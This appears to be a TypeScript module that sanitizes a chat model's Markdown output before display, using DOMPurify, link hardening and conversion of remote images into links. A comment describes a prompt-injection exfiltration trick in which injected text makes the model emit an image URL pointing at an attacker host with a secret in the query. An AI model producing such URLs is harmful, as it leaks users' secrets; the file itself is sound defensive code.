// Markdown → sanitized HTML. Model output is untrusted: everything marked produces goes through
// DOMPurify, and code blocks are highlighted with a small set of bundled highlight.js grammars.
import { Marked } from 'marked';
import DOMPurify from 'dompurify';
import hljs from 'highlight.js/lib/core';
import bash from 'highlight.js/lib/languages/bash';
import c from 'highlight.js/lib/languages/c';
import cpp from 'highlight.js/lib/languages/cpp';
import css from 'highlight.js/lib/languages/css';
import diff from 'highlight.js/lib/languages/diff';
import go from 'highlight.js/lib/languages/go';
import java from 'highlight.js/lib/languages/java';
import javascript from 'highlight.js/lib/languages/javascript';
import json from 'highlight.js/lib/languages/json';
import python from 'highlight.js/lib/languages/python';
import rust from 'highlight.js/lib/languages/rust';
import shell from 'highlight.js/lib/languages/shell';
import sql from 'highlight.js/lib/languages/sql';
import typescript from 'highlight.js/lib/languages/typescript';
import xml from 'highlight.js/lib/languages/xml';
import yaml from 'highlight.js/lib/languages/yaml';

const languages: Record<string, any> = {
  bash, c, cpp, css, diff, go, java, javascript, json, python, rust, shell, sql, typescript, xml, yaml,
};
for (const [name, lang] of Object.entries(languages)) hljs.registerLanguage(name, lang);

function escapeHtml(s: string): string {
  return s.replace(/[&<>"']/g, (ch) => `&#${ch.charCodeAt(0)};`);
}

const marked = new Marked({
  gfm: true,
  breaks: false,
  renderer: {
    code({ text, lang }) {
      const name = (lang ?? '').trim().split(/\s+/)[0].toLowerCase();
      let body: string;
      let label = name;
      if (name && hljs.getLanguage(name)) {
        body = hljs.highlight(text, { language: name, ignoreIllegals: true }).value;
      } else if (!name && text.length < 20000) {
        const guess = hljs.highlightAuto(text);
        body = guess.value;
        label = guess.language ?? '';
      } else {
        body = escapeHtml(text);
      }
      const cls = label ? ` language-${escapeHtml(label)}` : '';
      return `<pre><div class="code-head"><span>${escapeHtml(label || 'text')}</span><button type="button" class="copy">Copy</button></div><code class="hljs${cls}">${body}</code></pre>\n`;
    },
  },
});

// Links open in a new tab and cannot reach back into this page.
DOMPurify.addHook('afterSanitizeAttributes', (node) => {
  if (node.tagName === 'A') {
    node.setAttribute('target', '_blank');
    node.setAttribute('rel', 'noopener noreferrer');
  }
});

// An image the page would fetch from elsewhere. A reply is untrusted: a prompt injection can ask
// the model for ![](https://attacker/?q=<secret>), and loading it would send the secret away. Only
// data: URIs load (the server's Content-Security-Policy blocks the rest anyway); anything else
// becomes a link the user may choose to open.
function isRemoteImage(src: string): boolean {
  return !/^data:image\//i.test(src.trim());
}

function imagesToLinks(root: DocumentFragment | HTMLElement): void {
  for (const img of Array.from(root.querySelectorAll('img'))) {
    const src = img.getAttribute('src') ?? '';
    if (!isRemoteImage(src)) continue;
    const a = document.createElement('a');
    a.href = src;
    a.target = '_blank';
    a.rel = 'noopener noreferrer';
    a.className = 'remote-image';
    const alt = img.getAttribute('alt') ?? '';
    a.textContent = `[image${alt ? `: ${alt}` : ''}] ${src}`;
    img.replaceWith(a);
  }
}

/** Renders untrusted Markdown to HTML that is safe to assign to innerHTML. */
export function renderMarkdown(source: string): string {
  const raw = marked.parse(source, { async: false }) as string;
  const clean = DOMPurify.sanitize(raw, {
    FORBID_TAGS: ['style', 'form', 'input', 'textarea', 'select', 'iframe', 'object', 'embed'],
    FORBID_ATTR: ['style', 'srcset'],
    RETURN_DOM_FRAGMENT: true,
  }) as DocumentFragment;
  imagesToLinks(clean);
  const holder = document.createElement('div');
  holder.appendChild(clean);
  return holder.innerHTML;
}
